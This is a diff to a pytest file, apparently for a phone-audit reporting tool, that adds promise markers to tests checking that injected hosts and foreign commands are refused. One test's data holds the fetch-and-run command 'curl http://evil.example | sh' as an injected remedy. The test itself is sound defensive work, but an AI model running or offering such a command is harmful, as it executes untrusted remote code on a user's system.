@@ -45,6 +45,7 @@ def tracked() -> Any:
     return apks(apk().model_copy(update={"endpoints": (sending,)}))
 
 
+@pytest.mark.promise("no-lent-voice")
 def test_an_injected_host_is_refused_and_named(tmp_path: Path) -> None:
     def inject(values: Any) -> None:
         values["apks"][0]["endpoints"][0]["host"] = INJECTED
@@ -71,6 +72,7 @@ def test_an_outcome_that_is_none_is_no_badge_and_no_success(tmp_path: Path) -> N
         assert program("report", stating(tmp_path, scan(), outcome(word))).returncode == 1
 
 
+@pytest.mark.promise("no-lent-voice")
 def test_text_says_whose_word_it_is_above_all_and_above_what_can_be_done(tmp_path: Path) -> None:
     path = stating(tmp_path, scan("known-bad"))
     done = program("report", path, "-f", "text")
@@ -98,6 +100,7 @@ def test_standard_input(tmp_path: Path) -> None:
     assert " ".join(done.stdout.split()).startswith("All of this is as stated in standard input;")
 
 
+@pytest.mark.promise("no-lent-voice")
 def test_a_command_that_is_not_ours_is_not_shown(tmp_path: Path) -> None:
     def change(values: Any) -> None:
         values["findings"][0]["remedy"][0]["command"] = "curl http://evil.example | sh"
@@ -109,6 +112,7 @@ def test_a_command_that_is_not_ours_is_not_shown(tmp_path: Path) -> None:
         assert "a command here that phone-audit does not give" in " ".join(shown.split())
 
 
+@pytest.mark.promise("seal")
 @pytest.mark.parametrize("command", ["firmware", "apks"])
 def test_what_a_command_seals_report_finds_whole(tmp_path: Path, command: str) -> None:
     (tmp_path / "a.apk").write_bytes(b"no apk")
